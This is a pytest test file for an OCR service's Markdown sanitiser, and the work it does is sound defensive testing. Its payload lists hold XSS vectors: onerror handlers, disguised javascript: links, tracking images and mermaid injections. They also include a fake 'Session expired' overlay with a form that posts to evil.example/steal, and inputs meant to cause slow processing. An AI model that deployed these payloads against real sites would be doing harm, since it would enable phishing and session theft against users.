"""Text that comes from the document is hostile: whatever a page says (its text layer, what an engine reads on it, what a
page VLM can be made to write), the Markdown of /ocr and of the UI shows it as text. No raw HTML (a renderer's sanitiser
keeps a page-covering ``<div style>`` and a ``<form>``), no link to ``javascript:``, no image fetched from elsewhere, and
no escaping that takes time in the square of a line's length (a 2 KB PDF of brackets held the event loop 40 s)."""

from __future__ import annotations

import html
import re
import time

import pytest
from markdown_it import MarkdownIt

from inference.blocks import Block, Table
from inference.blocks import TableCell as Cell
from inference.markdown import blocks_to_markdown, page_markdown, table_markdown
from inference.markdown_text import escape_line, heading_text, inline, safe_markdown
from tests.helpers import ruled_table_pdf

OVERLAY = '<div style="position:fixed;inset:0;z-index:99999">Session expired <form action=https://evil.example/steal>'
PAYLOADS = [
    OVERLAY,
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><iframe src=https://evil.example>",
    "[click here](javascript:alert(1))",
    "[https://bank.example/](javascript:alert(1))",  # (a web address as the link's text)
    "![https://x.example/](https://evil.example/track.png)",
    "![pixel](https://evil.example/track.png)",
    "[click][1]\n\n[1]: javascript:alert(1)",  # (a definition)
    "[c](&#106;avascript:alert(1)) [d](java\tscript:alert(1))",  # (a scheme hidden by an entity, a tab)
    "x ```<div style=x>` and \\`<form action=x>`",  # (backticks a renderer does not take for code)
    '<p>\n<div style="position:fixed">inside an HTML block</div>',
    "```mermaid\n<form action=https://evil.example>\n```",
    "https://a\\<img src=x onerror=alert(1)>",  # (a web address ending in a backslash, before our escape)
    "[click https://a\\](javascript:alert(1)) [a\\](javascript:alert(1))",  # (a backslash before our escape)
    "[x][foo\\]bar]\n\n[foo\\]bar]: javascript:alert(1)",  # (a definition's label with an escaped bracket)
    '<b rowspan="1>" onmouseover="alert(1)">hi</b> <td colspan="1>" onclick="alert(1)">',  # (a quote left open)
    '> Note <b\n> id=o style="position:fixed;inset:0">Session expired</b> <td\n> style="position:fixed">x',  # (">" a quote's)
]
# formatting and table tags without attributes (but a cell's span): a model's Markdown keeps them; code is written in
# <pre><code> and <code> without attributes
PLAIN = re.compile(r"</?(?:br|sup|sub|b|i|em|strong|table|tr|pre|code)\s*/?>|<t[dh](?:\s+(?:row|col)span=\"\d+\")*\s*>|</t[dh]>")
TAG = re.compile(r"<!--.*?-->|<[A-Za-z/!?](?:\"[^\"]*\"|'[^']*'|[^'\">])*>?", re.DOTALL)  # (as a browser reads one)


def rendered(markdown: str) -> list:
    """Every token a CommonMark renderer (with GitHub's tables, as Gradio's) makes of the Markdown, nested ones too."""
    out, md = [], MarkdownIt("commonmark").enable(["strikethrough", "table"])
    md.validateLink = lambda url: True  # (its own refusal of javascript: links would hide ours)
    for token in md.parse(markdown):
        out.append(token)
        out += token.children or []
    return out


def harmful(markdown: str) -> list[str]:
    """What a renderer would make of the Markdown that the text did not ask to be shown as text: raw HTML (other than
    comments and PLAIN tags; a mermaid fence's tags, which Gradio puts in the page), images, links to anything but a web
    address."""
    found = []
    for token in rendered(markdown):
        if token.type in ("html_inline", "html_block"):
            for tag in TAG.findall(token.content):
                if not tag.startswith("<!--") and not PLAIN.fullmatch(tag):  # (comments: the pages' and lists' own)
                    found.append(f"{token.type}: {tag[:60]}")
        elif token.type == "fence" and token.info.strip() == "mermaid" and re.search(r"<[A-Za-z/!?]", token.content):
            found.append(f"mermaid: {token.content[:60]}")  # (Gradio writes a mermaid fence's text into the page)
        elif token.type == "image":
            found.append(f"image: {token.attrGet('src')}")
        elif token.type == "link_open" and not str(token.attrGet("href")).startswith(("http://", "https://", "mailto:", "#")):
            found.append(f"link: {token.attrGet('href')}")
    return found


def shown(markdown: str) -> tuple[str, list[str]]:
    """The text a reader sees of the Markdown rendered (a CommonMark renderer's HTML, its tags taken out and its character
    references read), and the tags of that HTML in order."""
    from html.parser import HTMLParser

    page = MarkdownIt("commonmark").enable(["strikethrough", "table"]).render(markdown)
    seen: tuple[list[str], list[str]] = ([], [])
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = seen[0].append  # type: ignore[method-assign]
    parser.handle_starttag = lambda tag, attrs: seen[1].append(tag)  # type: ignore[method-assign]
    parser.feed(page)
    parser.close()
    return "".join(seen[0]), seen[1]


def cells(*texts: str) -> Table:
    return Table(rows=[[Cell(text="Item"), Cell(text="Price")], *[[Cell(text="Ink"), Cell(text=text)] for text in texts]])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_tables_cells_are_text_in_its_markdown(payload):
    table = Block(type="table", text=payload, table=cells(payload, "12.00"))
    markdown = blocks_to_markdown([table])
    assert markdown.startswith("| Item | Price |") and not harmful(markdown), (markdown, harmful(markdown))
    spanning = cells(payload)
    spanning.rows.append([Cell(text=payload, colspan=2)])
    markdown = blocks_to_markdown([Block(type="table", text=payload, table=spanning)])
    assert markdown.startswith("<table>") and "<div" not in markdown and "<img" not in markdown, markdown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_titles_and_captions_an_engine_read_are_text(payload):
    for markdown in (inline(payload), escape_line(payload), heading_text(payload)):
        assert not harmful(markdown), (markdown, harmful(markdown))
    blocks = [Block(type=kind, text=payload) for kind in ("title", "text", "caption", "list", "equation")]
    assert not harmful(blocks_to_markdown(blocks))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_vlms_markdown_keeps_its_structure_but_not_raw_html_images_or_script_links(payload):
    answer = f"# Report\n\nSome **bold** text<br>and x<sup>2</sup>.\n\n{payload}\n\n- an item\n\n`<code> stays`"
    for markdown in (page_markdown(answer, []), safe_markdown(answer)):
        assert not harmful(markdown), (markdown, harmful(markdown))
        kinds = {token.type for token in rendered(markdown)}
        assert {"heading_open", "strong_open", "bullet_list_open"} <= kinds, kinds
        assert "<br>" in markdown and "<sup>2</sup>" in markdown and "<code> stays" in shown(markdown)[0], markdown
    blocks = [Block(type=kind, text=payload) for kind in ("title", "text", "caption", "list", "equation")]
    blocks.append(Block(type="table", text=payload, table=cells(payload, "**12.00**")))
    markdown = blocks_to_markdown(blocks, verbatim=True)
    assert not harmful(markdown) and "| Ink | **12.00** |" in markdown, (markdown, harmful(markdown))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_code_in_a_models_markdown_shows_as_written_and_nothing_more(payload):
    """A fence's and a code span's text shows as the model wrote it ("&lt;div&gt;" showed where it wrote "<div>"), and
    the HTML it is written in holds no tag of the document's: the payload inside code, and around it, is text."""
    code = '<div class="note">a & b *c* [d](javascript:e) $$x$$ | </pre>'
    for fence in ("~~~", "````") if "\n```" in payload else ("```html", "~~~", "````"):  # (a fence ends at one as long)
        closing = fence.removesuffix("html")
        answer = f"Here:\n{fence}\n{code}\n{payload}\n{closing}\nUse `{code}` or ``a ` b``. {payload}"
        markdown = safe_markdown(answer)
        text, tags = shown(markdown)
        assert not harmful(markdown), (markdown, harmful(markdown))
        assert f"{code}\n{payload}" in text and f"Use {code} or a ` b." in text, (answer, markdown, text)
        assert tags.count("pre") >= 1 and tags.count("code") >= 3, tags  # (more where the payload has backticks)
    unclosed = safe_markdown(f"~~~~\n{code}\n{payload}")
    assert shown(unclosed)[0].startswith(f"{code}\n{payload}") and not harmful(unclosed), unclosed


# Code that a renderer does not read where we do (helper's attack pass): a fence after a character Python ends a line at
# and CommonMark does not, a kept tag's HTML block around a fence with a blank line, fences in list items, mermaid fences
# in a quote or a list (Gradio draws them: a node's image is fetched, an init block takes CSS)
BAD = "![x](https://evil.example/t.png)\n[a](javascript:alert(1))\n$$x^2$$"
CODE_PAYLOADS = [
    # (no fence there to CommonMark: the math is the model's)
    *(f"text{separator}```\n{BAD[:-8]}\n```" for separator in "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"),
    *(f"para\n{tag}\n```\nx\n\n{BAD}\n```" for tag in ("<td>", "<table>", "<b>", "</td>", "<br>")),
    "<td>\n```\nx\n\n[q]: javascript:alert(1)\n```\n[q]",
    f"1. Run:\n   ```\n   x\n   {BAD.replace(chr(10), chr(10) + '   ')}\n   ```",
    f"- ```\n  x\n  ```\n[a]\n\n{BAD}\n",
    f"1. ~~~\n   x\n   ```\nline\n\n{BAD}\n",
    '> ```mermaid\n> flowchart TD\n> A@{ img: "https://evil.example/m.png", label: "x" }\n> A --> B\n> ```',
    "1. Diagram:\n\n    ```mermaid\n    flowchart TD\n    A --> B\n    ```",
    "- item\n\t~~~ Mermaid\n\tflowchart TD\n\t~~~",
    # (a second pass: a second class through a character reference, Gradio's "$$" and its placeholders put back after
    # Markdown, a reference or a no-break space before the word: each a mermaid block in Gradio or markdown-it)
    "> ```x&#32;mermaid\n> flowchart TD\n> A --> B\n> ```",
    "> ```$$ mermaid $$\n> flowchart TD\n> ```",
    "$$ mermaid $$\n\n> ~~~%%%LATEX_BLOCK_0%%%\n> flowchart TD\n> ~~~",
    "- step\n\t```x$$ mermaid $$\n\tflowchart TD\n\t```",
    "> ```&#109;ermaid\n> flowchart TD\n> ```",
    "> ```\xa0mermaid\n> flowchart TD\n> ```",
    f"```python\nx = 1\n\t```\n{BAD}\n```",  # (a tab before the fence: code, not its end)
    # (a third: a code span in a "~~~" fence's info string, which CommonMark reads as the info's text)
    "> ~~~`a`&#32;mermaid\n> flowchart TD\n> ~~~",
    "> ~~~`a`$$ mermaid $$\n> flowchart TD\n> ~~~",
]


def drawn(info: str) -> bool:
    """Whether a fence with this info string is drawn as mermaid in Gradio: its word (as written, a renderer writes it into
    the class of its code, where the browser reads its references once) makes a class "mermaid", or holds Gradio's math
    ("$$"), or the placeholder it swaps math for, which it puts back into the page after Markdown."""
    word = info.split()[0] if info.split() else ""
    return "mermaid" in html.unescape(word).lower().split() or "$$" in word or "%%%" in word


@pytest.mark.parametrize("answer", CODE_PAYLOADS)
def test_code_a_renderer_reads_elsewhere_than_we_do_is_still_text(answer):
    markdown = safe_markdown(answer)
    found = harmful(markdown) + [f"fence: {t.info}" for t in rendered(markdown) if t.type == "fence" and drawn(t.info)]
    assert not found and "$$" not in markdown.replace("$$ mermaid $$\n", "", 1), (markdown, found)  # (BAD's is code)


def test_code_in_a_list_item_and_in_a_tables_cell_shows_as_written():
    """A model's steps indent their code to the item (4 columns, a tab): it is code of ours too, not text with "&lt;";
    a table's code span shows its escaped "|" as GitHub's tables do."""
    for indent in ("    ", "\t", "   "):
        answer = f"1. Install:\n\n{indent}```bash\n{indent}echo '<ok>' > f && ls `pwd`\n{indent}```\n2. Done"
        text, tags = shown(safe_markdown(answer))
        assert "echo '<ok>' > f && ls `pwd`" in text and "ol" in tags and "pre" in tags, (indent, safe_markdown(answer), text)
    text, tags = shown(safe_markdown("| a | b |\n|---|---|\n| `x \\| y` | z |"))
    assert "x | y" in text and "td" in tags, text
    nested = (
        "- Level 1\n  - Level 2\n    - Level 3\n\n    Text in level 2:\n\n    ```python\n    print('<b>', a<b)\n    ```\n- Back"
    )
    lazy = "1. Step one is long\nand continues here\n    ```bash\n    echo '<x>'\n    ```"
    for answer, code in ((nested, "print('<b>', a<b)"), (lazy, "echo '<x>'")):
        text, tags = shown(safe_markdown(answer))
        assert code in text and "pre" in tags, (safe_markdown(answer), text)
    for answer in (
        "1. Step\n```\nfoo\n```\n\n    ```\n    bar\n    ```",
        "Released in\n2024. It was\n\n    ```\n    bar\n    ```",
    ):
        text, _ = shown(safe_markdown(answer))  # (an indented code block, not in a list item: not ours)
        assert "<pre>" not in text and "&#" not in text and "bar" in text, (safe_markdown(answer), text)


def test_math_never_pairs_across_code():
    """Gradio takes "$$...$$" as math across a whole answer, our code's HTML too (KaTeX showed our tags and the code as
    math): every "$$" left in the text pairs with one before the next code."""
    for answer in ("Intro $$\n```\n\\frac{a}{b} <x>\n```\nend $$", "Cost $$ `a <b>` and $$x$$ $$"):
        markdown = safe_markdown(answer)
        assert not re.search(r"\$\$(?:(?!\$\$).)*?<(?:pre|code)>", markdown, re.DOTALL), markdown


def test_fence_lines_take_time_in_proportion():
    for text in ("x" + "`" * 300_000, "x" + "~" * 300_000, "- a\n" + "  ```\n" * 100_000, " " * 300_000 + "`a` " * 75_000):
        started = time.process_time()
        safe_markdown(text)
        assert time.process_time() - started < 5.0, text[:10]  # (a run of 100,000 marks: 143 s)


def test_code_keeps_its_lines_whatever_their_ends():
    for answer in ("```\r\nif a < b:\r\n    go()\r\n```\r\nafter", "```\rif a < b:\r    go()\r```\rafter"):
        text, tags = shown(safe_markdown(answer))
        assert text.startswith("if a < b:\n    go()") and "go()\r" not in text and "pre" in tags, (answer, text)


def test_an_ftp_address_is_text_not_a_link():
    """Gradio's renderer (marked, GitHub's flavour) links "ftp://" addresses in text as it links web ones; links go only
    to web and mail addresses: its colon is a reference, which shows as itself."""
    for markdown in (safe_markdown("Get ftp://evil.example/x.exe or FTP://y"), inline("Get ftp://evil.example/x.exe")):
        assert "ftp://" not in markdown.lower() and "ftp://evil.example/x.exe" in shown(markdown)[0], markdown
    # (a character Python takes for a space and CommonMark does not, or a space inside "<...>": the link's path on this
    # server, "%C2%85https://...", in Gradio's renderer; markdown-it-py strips them, so the check is on our Markdown)
    for answer in ("[Bank login](\x85https://evil.example/login)", "[a](\x1chttps://x)", "[a](< https://evil.example/x>)"):
        assert "](" not in safe_markdown(answer), safe_markdown(answer)
    assert "](" in safe_markdown("[ok](\n  https://a.example/x) [ok](<https://a.example/y>)")


def test_display_math_holds_no_html():
    markdown = blocks_to_markdown([Block(type="equation", text=f"a<b {OVERLAY}")], verbatim=True)
    assert "<div" not in markdown and "<form" not in markdown and "a< b" in markdown, markdown


@pytest.mark.slow  # a release check: 12 texts of 100,000s of marks timed (~12 s); quick: test_fence_lines_take_time_in_proportion
def test_escaping_takes_time_in_proportion_to_the_text():
    """Lines of brackets, of '#' and of '![' (a 2 KB PDF's text layer held 864,000 of them): linear, not quadratic."""
    texts = ("[[ " * 100_000, "# " + "#" * 300_000, "![" * 150_000, "[a]" * 100_000, "<br" * 100_000, "[a](" + " " * 300_000)
    texts += ("".join("`" * k + " x " for k in range(1, 700)), "```\n" * 100_000, "`a" * 150_000, " ```x\n~~~\n" * 50_000)
    for text in texts + ("[a](" + " " * 100_000 + "<" + " " * 100_000, "[" * 200_000 + "]:"):
        started = time.process_time()
        inline(text), escape_line(text), heading_text(text), safe_markdown(text)
        blocks_to_markdown([Block(type="list", text="\n".join([text[:50]] * 20_000))], verbatim=True)
        assert time.process_time() - started < 5.0, text[:10]  # (quadratic: minutes)


def test_a_pdf_whose_table_cell_holds_html_comes_back_as_text_through_ocr(open_server):
    payload = '<div style="position:fixed;inset:0">Session expired</div><img src=x onerror=alert(1)>'
    response = open_server.post(
        "/ocr?format=markdown",
        files={"file": ("invoice.pdf", ruled_table_pdf([("Item", "Price"), ("Paper", "4.00"), ("Ink", payload)]))},
    )
    assert response.status_code == 200, response.text
    markdown = response.text
    assert "Session expired" in markdown and not harmful(markdown), (markdown, harmful(markdown))


def test_the_chat_tab_shows_a_models_answer_without_its_raw_html():
    from ui.chat_talk import DONE, Exchange

    answer = f"Here is the form:\n\n{OVERLAY}\n\n![pixel](https://evil.example/track.png) and **bold**"
    shown = Exchange(question="What does it say?", image="page.png", model=None, answer=answer, state=DONE).shown()
    said = shown[-1]["content"]
    assert "Session expired" in said and "**bold**" in said and not harmful(said), (said, harmful(said))


def test_a_batchs_markdown_keeps_a_file_name_and_a_failed_page_as_text_and_the_other_pages():
    from inference.markdown import batch_markdown
    from inference.results import BatchItem, BatchResult, PageResult

    name = "a---><img src=x onerror=alert(1)>--!><form action=x>.png"
    image = BatchItem(filename=name, text="Hello", processing_time=0.1, status="success")
    pages = [
        PageResult(page=1, text="Page one text", processing_time=0.1, source="ocr", image_size=[9, 9]),
        PageResult(page=2, text="", processing_time=0.1, source="ocr", image_size=[9, 9], error="<b onclick=x>bad</b>"),
    ]
    error = "page 2: [x](javascript:y)"
    document = BatchItem(filename="report.pdf", processing_time=0.2, status="error", error=error, pages=pages)
    result = BatchResult(results=[image, document], total=2, successful=1, failed=1, processing_time=0.3, model="embedded")
    markdown = batch_markdown(result)
    assert not harmful(markdown), (markdown, harmful(markdown))
    assert "Hello" in markdown and "Page one text" in markdown and "could not be read" in markdown, markdown


def test_a_ragged_table_and_a_chain_of_broken_words_take_time_and_room_in_proportion():
    from inference.blocks import OcrLine

    started = time.process_time()
    ragged = Table(rows=[[Cell(text="a")] * 4000] + [[Cell(text="b")]] * 4000)  # (padded rows: 16 million cells)
    assert len(table_markdown(ragged)) < 200_000
    lines = [
        OcrLine(text="ab-", box=[[0, 10 * i], [10, 10 * i], [10, 10 * i + 10], [0, 10 * i + 10]], confidence=1)
        for i in range(20_000)
    ]
    assert blocks_to_markdown([Block(type="text", text="", lines=lines)]).startswith("ab")
    assert time.process_time() - started < 5.0  # (14 s for the broken words alone before)
